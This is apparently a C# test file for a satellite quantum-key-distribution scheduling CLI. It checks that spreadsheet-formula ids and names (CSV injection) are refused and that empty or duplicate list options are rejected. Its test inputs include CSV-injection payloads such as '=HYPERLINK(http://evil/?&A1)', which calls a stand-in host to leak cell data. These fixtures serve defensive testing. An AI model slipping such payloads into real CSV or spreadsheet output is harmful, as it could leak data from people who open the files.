using QkdScheduler.Core.IO;
using QkdScheduler.Testing;

namespace QkdScheduler.Cli.Tests;

/// <summary>
/// Ids that a spreadsheet would run as formulas are refused where they enter (OWASP "CSV Injection"), so no CSV, JSON or
/// calendar we write holds one; list options that are empty or repeat an item are refused instead of guessed.
/// </summary>
public sealed class InputSafetyTests : IDisposable
{
    private readonly string _dir = Directory.CreateTempSubdirectory("qkdsched-safety-").FullName;

    public void Dispose() => Directory.Delete(_dir, recursive: true);

    private string Instance(string nodeId, string name = "safe")
    {
        var dir = Path.Combine(_dir, Guid.NewGuid().ToString("N"));
        InstanceFiles.Write(TestProblems.AThenB(), dir);
        var yaml = Path.Combine(dir, InstanceFiles.InstanceFileName);
        var text = File.ReadAllText(yaml).Replace("- id: \"A\"", $"- id: \"{nodeId.Replace("\"", "\\\"")}\"").Replace("name: \"test\"", $"name: \"{name}\"");
        // Edited by hand, as an attacker would: without the checksum line that guards generated files.
        File.WriteAllLines(yaml, text.Split('\n').Where(l => !l.StartsWith(InstanceFiles.ChecksumKey + ":", StringComparison.Ordinal)));
        File.WriteAllText(Path.Combine(dir, InstanceFiles.KeysFileName), File.ReadAllText(Path.Combine(dir, InstanceFiles.KeysFileName)).Replace("\nA,", $"\n{nodeId},").Replace(",A,", $",{nodeId},"));
        return dir;
    }

    [Theory]
    [InlineData("=HYPERLINK(http://evil/?&A1)")]
    [InlineData("@SUM(1+1)")]
    [InlineData("+cmd")]
    [InlineData("-2+3")]
    public void A_formula_as_a_node_id_is_refused_in_one_line(string id) =>
        CliRun.AssertOneLineUserError(CliRun.Run("solve", Instance(id), "--out", Path.Combine(_dir, "out")), $"node id '{id}' must be non-empty, hold no commas, double quotes or line breaks, and not start with =, +, - or @");

    [Fact]
    public void A_formula_as_an_instance_name_or_station_is_refused()
    {
        CliRun.AssertOneLineUserError(CliRun.Run("info", Instance("A", "=evil()")), "name '=evil()' must be non-empty");
        var stations = Path.Combine(_dir, "stations.csv");
        File.WriteAllText(stations, "name,latitude_deg,longitude_deg,altitude_m\n@evil,39.9,116.4,45\n");
        var scenario = Path.Combine(_dir, "scenario.yaml");
        var micius = Path.Combine(RepositoryPaths.Root(), "instances", "micius2016-china11");
        File.WriteAllText(scenario, $"""
            format: qkdsched-scenario/1
            name: evil
            period: {"{"}start: 2016-12-19T00:00:00Z, end: 2016-12-19T06:00:00Z{"}"}
            satellite: {"{"}tle: {Path.Combine(micius, "micius-41731.tle")}{"}"}
            stations: {"{"}file: {stations}{"}"}
            link: {"{"}model: gaussian-beam{"}"}
            protocol: {"{"}model: decoy-bb84{"}"}
            """);
        CliRun.AssertOneLineUserError(CliRun.Run("precompute", scenario, "--out", Path.Combine(_dir, "inst")), "stations.csv:2: station name '@evil' must not start with =, +, - or @");
    }

    /// <summary>
    /// Every other way a name reaches contacts.csv, the calendars, the pointing files and passes' CSV: a station of
    /// passes --stations, the name line of a TLE, and a node's stations in instance.yaml.
    /// </summary>
    [Fact]
    public void A_formula_as_a_passes_station_a_tle_name_or_a_node_station_is_refused_with_its_line()
    {
        var stations = Path.Combine(_dir, "passes-stations.csv");
        File.WriteAllText(stations, "name,latitude_deg,longitude_deg,altitude_m\nBeijing,39.9,116.4,45\n=HYPERLINK(http://evil/?&A1),31.2,121.5,5\n");
        CliRun.AssertOneLineUserError(CliRun.Run("passes", "--orbit", "altitude_km=500,inclination_deg=97.4", "--stations", stations,
            "--from", "2016-09-19T00:00:00Z", "--to", "2016-09-20T00:00:00Z", "--format", "csv"),
            "passes-stations.csv:3: station name '=HYPERLINK(http://evil/?&A1)' must not start with =, +, - or @ (a spreadsheet opening a CSV we write would run it as a formula)");

        var tle = Path.Combine(_dir, "evil.tle");
        var micius = File.ReadAllLines(Path.Combine(RepositoryPaths.Root(), "instances", "micius2016-china11", "micius-41731.tle"))
            .Where(l => l.StartsWith("1 ", StringComparison.Ordinal) || l.StartsWith("2 ", StringComparison.Ordinal)).Take(2).ToArray();
        File.WriteAllLines(tle, ["@SUM(1+1)", micius[0], micius[1]]);
        CliRun.AssertOneLineUserError(CliRun.Run("passes", "--tle", tle, "--stations", Path.Combine(RepositoryPaths.Root(), "instances", "micius2016-china11", "china11.csv"),
            "--from", "2016-09-19T00:00:00Z", "--to", "2016-09-20T00:00:00Z", "--allow-old-elements"), "evil.tle:1: satellite name '@SUM(1+1)' must not start with =, +, - or @");

        var dir = Instance("A");
        var yaml = Path.Combine(dir, InstanceFiles.InstanceFileName);
        File.WriteAllText(yaml, File.ReadAllText(yaml).Replace("stations: [\"A\"]", "stations: [\"-2+3\"]"));
        Assert.Contains("-2+3", File.ReadAllText(yaml));
        CliRun.AssertOneLineUserError(CliRun.Run("solve", dir, "--out", Path.Combine(_dir, "out")), "station '-2+3' of node 'A' must be non-empty");
    }

    [Theory]
    [InlineData("--solvers", "", "--solvers is empty")]
    [InlineData("--solvers", "dp,dp", "--solvers lists 'dp' twice")]
    [InlineData("--solvers", " , ", "--solvers is empty")]
    [InlineData("--solvers", "greedy,,dp", "--solvers 'greedy,,dp' has an empty item")]
    [InlineData("--strategies", "gd,gd", "--strategies lists 'gd' twice")]
    [InlineData("--seeds", "1,1", "--seeds lists '1' twice")]
    [InlineData("--seeds", "4294967296", "--seeds: '4294967296' is not valid; it must be a whole number from 0 to 2147483647")]
    public void Bench_lists_that_are_empty_or_repeat_are_refused(string option, string value, string expected) =>
        CliRun.AssertOneLineUserError(CliRun.Run("bench", Instance("A"), option, value, "--out", Path.Combine(_dir, "bench")), expected);

    [Fact]
    public void Bench_refuses_the_same_instance_twice()
    {
        var dir = Instance("A");
        CliRun.AssertOneLineUserError(CliRun.Run("bench", dir, dir + "/", "--solvers", "greedy", "--strategies", "gd", "--out", Path.Combine(_dir, "bench")),
            "two of the instance folders are both named 'safe'");
    }
}
